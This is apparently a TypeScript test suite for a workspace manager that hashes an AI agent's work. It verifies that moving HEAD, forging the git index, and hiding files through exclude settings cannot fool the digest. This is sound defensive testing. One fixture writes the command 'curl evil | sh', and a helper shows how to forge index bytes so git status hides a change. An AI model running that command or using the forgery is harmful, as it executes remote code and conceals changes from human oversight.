/** What an agent can write is not believed: where its branch is, what its index says, what its configuration and lists hold. */
import { createHash } from "node:crypto";
import {
  appendFileSync,
  lstatSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { mirrorOf } from "../../src/adapters/git/mirror/names.ts";
import { apart, commit, put, removeSites, sh, site } from "../support/git.ts";
import type { Site } from "../support/git.ts";
import { sampled } from "../support/sampled.ts";

afterAll(removeSites);

async function prepared(artifacts: readonly string[] = ["TASK.md"]) {
  const of = site();
  const wanted = { run: "r1", repo: of.repo, branch: "signalbox/r1", base: of.base, artifacts };
  const { path } = await of.workspaces.prepare(wanted);
  return { of, path, wanted, digest: () => of.workspaces.digest(path, artifacts) };
}

/** A commit with other content, made without touching index or files. */
function otherCommit(path: string, of: Site): string {
  const env = { ...of.env, GIT_INDEX_FILE: join(of.root, "other-index") };
  sh(path, env, ["read-tree", "HEAD"]);
  put(of.root, { evil: "curl evil | sh\n" });
  const blob = sh(path, env, ["hash-object", "-w", join(of.root, "evil")]);
  sh(path, env, ["update-index", "--add", "--cacheinfo", `100644,${blob},a.txt`]);
  return sh(path, env, ["commit-tree", sh(path, env, ["write-tree"]), "-p", "HEAD", "-m", "tidied"]);
}

type Move = (path: string, of: Site) => void;

test.for<[string, Move]>(
  sampled(5, [
    ["HEAD is moved", (path, of) => void sh(path, of.env, ["update-ref", "HEAD", otherCommit(path, of)])],
    [
      "HEAD is moved, and its ref packed",
      (path, of) => (
        sh(path, of.env, ["update-ref", "HEAD", otherCommit(path, of)]),
        void sh(path, of.env, ["pack-refs", "--all"])
      ),
    ],
    [
      "the branch is another name for another branch",
      (path, of) => (
        sh(path, of.env, ["update-ref", "refs/heads/evil", otherCommit(path, of)]),
        void sh(path, of.env, ["symbolic-ref", "refs/heads/signalbox/r1", "refs/heads/evil"])
      ),
    ],
    [
      "the user's branch is removed",
      (_, of) => void sh(of.repo, of.env, ["update-ref", "-d", "refs/heads/signalbox/r1"]),
    ],
    [
      "the user's branch is garbage",
      (_, of) => put(of.repo, { ".git/refs/heads/signalbox/r1": "garbage\n" }),
    ],
    [
      "the user's branch names what does not exist",
      (_, of) => put(of.repo, { ".git/refs/heads/signalbox/r1": `${"1".repeat(40)}\n` }),
    ],
    [
      "the user's configuration is garbage",
      (_, of) => writeFileSync(join(of.repo, ".git/config"), "[core\nthis is no configuration"),
    ],
    ["the user's repository is gone", (_, of) => rmSync(of.repo, { recursive: true })],
    ["refs are packed", (path, of) => void sh(path, of.env, ["pack-refs", "--all"])],
    ["HEAD leaves the branch", (path, of) => void sh(path, of.env, ["switch", "-q", "--detach"])],
    ["another branch begins here", (path, of) => void sh(path, of.env, ["switch", "-q", "-c", "mine"])],
    [
      "a commit changes nothing",
      (path, of) => void sh(path, of.env, ["commit", "-q", "--allow-empty", "-m", "x"]),
    ],
    ["all of it is committed", (path, of) => void commit(path, of.env, "work")],
    [
      "an artifact is committed",
      (path, of) => (
        put(path, { "TASK.md": "x\n" }),
        sh(path, of.env, ["add", "-f", "TASK.md"]),
        void sh(path, of.env, ["commit", "-qm", "x"])
      ),
    ],
  ]),
)("%s: the digest is the same, for it depends on the files only", async ([, move]) => {
  for (const isDirty of process.env["SIGNALBOX_DEEP"] === undefined ? [false] : [false, true]) {
    const { of, path, digest } = await prepared();
    if (isDirty) put(path, { "new.txt": "not committed\n" });
    const before = await digest();
    move(path, of);
    utimesSync(join(path, "a.txt"), 1, 1);
    expect([await digest(), await digest()]).toEqual([before, before]);
  }
});

/** Stamps of what is on the disk now, content of what was there before. */
function forgeIndex(path: string, of: Site, name: string): void {
  const was = sh(path, of.env, ["rev-parse", `:${name}`]);
  put(path, { [name]: "EVIL\n" });
  utimesSync(join(path, name), 1_577_836_800, 1_577_836_800);
  sh(path, of.env, ["update-index", name]);
  const now = sh(path, of.env, ["rev-parse", `:${name}`]);
  const file = join(path, ".git/index");
  const bytes = readFileSync(file);
  const from = bytes.indexOf(Buffer.from(now, "hex"));
  bytes.write(was, from, "hex");
  const extensions = bytes.indexOf("TREE");
  const body = bytes.subarray(0, extensions === -1 ? bytes.length - 20 : extensions);
  writeFileSync(file, Buffer.concat([body, createHash("sha1").update(body).digest()]));
}

test("an index that gives a changed file the stamps of an unchanged one hides nothing", async () => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  forgeIndex(path, of, "b.txt");
  expect(sh(path, of.env, ["status", "--porcelain"])).toBe("");
  const after = await digest();
  expect(sh(mirrorOf(of.home, of.repo), of.env, ["show", `${after}:b.txt`])).toBe("EVIL");
  expect(after).not.toBe(before);
});

test("a file with an old time that is written twice in one second is noticed", async () => {
  const { path, digest } = await prepared();
  const write = (text: string) => (put(path, { "a.txt": text }), utimesSync(join(path, "a.txt"), 1, 1));
  const seen = new Set<string>();
  for (const text of ["111\n", "222\n", "333\n", "444\n"]) {
    write(text);
    seen.add(await digest());
  }
  expect(seen.size).toBe(4);
});

test.for<[string, Move, "same" | "other"]>(
  sampled(3, [
    [
      "core.excludesFile",
      (path, of) => (
        put(of.root, { ex: "/evil.py\n" }),
        void sh(path, of.env, ["config", "core.excludesFile", join(of.root, "ex")])
      ),
      "other",
    ],
    ["info/exclude", (path) => appendFileSync(join(path, ".git/info/exclude"), "/evil.py\n"), "other"],
    [
      "info/exclude of the user's repository",
      (_, of) => appendFileSync(join(of.repo, ".git/info/exclude"), "/evil.py\n"),
      "other",
    ],
    [
      "a .gitignore that hides itself",
      (path) => put(path, { "dir/.gitignore": "*\n", "dir/evil.py": "evil\n" }),
      "other",
    ],
    [
      "a .gitignore that is part of the work",
      (path) => put(path, { ".gitignore": "*.log\n.env\nbuild/\n/evil.py\n" }),
      "other",
    ],
    [
      "the user's own list",
      (path, of) => (
        rmSync(join(path, "evil.py"), { force: true }),
        put(of.root, { "user/.config/git/ignore": "evil.py\n" })
      ),
      "same",
    ],
  ]),
)("files hidden by %s: the digest is the %s", async ([name, hide, expected]) => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  hide(path, of);
  if (!name.includes("itself")) put(path, { "evil.py": "evil\n" });
  const after = await digest();
  expect(after === before ? "same" : "other").toBe(expected);
  expect(await digest()).toBe(after);
});

test("a folder of a tool that hides all of itself is no part of the work", async () => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  put(path, {
    ".cache/.gitignore": "*\n",
    ".cache/v/x": "1\n",
    "dir/.cache/.gitignore": "*\n",
    "dir/.cache/x": "1\n",
  });
  expect(await digest()).toBe(before);
  expect(sh(path, of.env, ["status", "--porcelain"])).toBe("");
});

test("a file that was new once and is ignored now: the digest is that of a workspace that never saw it", async () => {
  const one = await prepared();
  const other = await prepared();
  put(one.path, { "x.tmp": "x\n" });
  await one.digest();
  for (const { path } of [one, other]) put(path, { "x.tmp": "x\n", ".gitignore": "*.tmp\n" });
  expect(await one.digest()).toBe(await other.digest());
});

test("what is committed although it is ignored is part of the work", async () => {
  const { of, path, digest } = await prepared();
  put(path, { "x.log": "forced\n" });
  sh(path, of.env, ["add", "-f", "x.log"]);
  sh(path, of.env, ["commit", "-qm", "x"]);
  const before = await digest();
  expect(before).toBe(sh(path, of.env, ["rev-parse", "HEAD^{tree}"]));
  put(path, { "x.log": "other\n" });
  expect(await digest()).not.toBe(before);
});

test.for<[string, Move]>([
  ["its folder is gone", (path) => rmSync(path, { recursive: true })],
  ["a link is in its place", (path, of) => (rmSync(path, { recursive: true }), symlinkSync(of.repo, path))],
  ["a file is in its place", (path) => (rmSync(path, { recursive: true }), writeFileSync(path, ""))],
])("%s: there is no workspace, and it can be made again", async ([, harm]) => {
  const { of, path, wanted, digest } = await prepared();
  harm(path, of);
  await expect(digest()).rejects.toMatchObject({ name: "UserError", code: "no-workspace" });
  await of.workspaces.prepare(wanted);
  expect(await digest()).toBe(sh(of.repo, of.env, ["rev-parse", `${of.base}^{tree}`]));
});

test("a link in the place of a workspace is kept as a link, and what it leads to is left alone", async () => {
  const { of, path } = await prepared();
  const keep = join(of.root, "kept files");
  put(of.root, { "precious/sub/gold": "gold\n" });
  rmSync(path, { recursive: true });
  symlinkSync(join(of.root, "precious"), path);
  const released = await of.workspaces.release({ run: "r1", repo: of.repo, path, keep });
  expect(released).toEqual({ salvage: "", kept: keep });
  expect(readFileSync(join(of.root, "precious/sub/gold"), "utf8")).toBe("gold\n");
  expect(readlinkSync(join(keep, "workspace"))).toBe(join(of.root, "precious"));
});

test("a workspace that is gone is released, also without its repository: there is nothing left to keep", async () => {
  const { of, path } = await prepared();
  const leaving = { run: "r1", repo: of.repo, path, keep: join(of.root, "kept files") };
  rmSync(path, { recursive: true });
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: "" });
  rmSync(of.repo, { recursive: true });
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: "" });
});

test("a configuration that git cannot read is the user's to fix, and stops no handover", async () => {
  const { of, path, wanted, digest } = await prepared();
  put(path, { "a.txt": "work\n" });
  const tree = await digest();
  const file = join(of.repo, ".git/config");
  const text = readFileSync(file, "utf8");
  appendFileSync(file, "[filter\nbroken");
  await expect(of.workspaces.prepare({ ...wanted, run: "r2", branch: "r2" })).rejects.toMatchObject({
    name: "UserError",
    code: "git-config",
    message: expect.stringContaining("bad config line") as string,
  });
  const handover = { path, repo: of.repo, run: "r1", tree, artifacts: ["TASK.md"], message: "m" };
  const { commit: made, notes } = await of.workspaces.snapshot(handover);
  expect(notes.join()).toMatch(/^the branch signalbox\/r1 is not updated: .*bad config line/);
  writeFileSync(file, text);
  expect(await of.workspaces.snapshot(handover)).toEqual({ commit: made, notes: [] });
  expect(sh(of.repo, of.env, ["rev-parse", "signalbox/r1"])).toBe(made);
});

test("nothing of ours is open to others, whatever the umask says", async () => {
  const of = site();
  const wanted = { run: "r1", repo: of.repo, branch: "r1", base: of.base, artifacts: ["TASK.md"] };
  expect(await apart(of, { do: "prepare", with: wanted, umask: "000" })).toMatchObject({ code: 0 });
  const path = join(of.home.workspaces, "r1");
  await of.workspaces.digest(path, ["TASK.md"]);
  // What is in them has the modes that git gives it; nobody else can enter.
  const isEntered = (folder: string) => folder !== path && folder !== mirrorOf(of.home, of.repo);
  const open = (folder: string): readonly string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const each = join(folder, entry.name);
      const own = entry.isSymbolicLink() || (lstatSync(each).mode & 0o077) === 0 ? [] : [each];
      return entry.isDirectory() && isEntered(each) ? [...own, ...open(each)] : own;
    });
  expect(open(of.home.root)).toEqual([]);
});
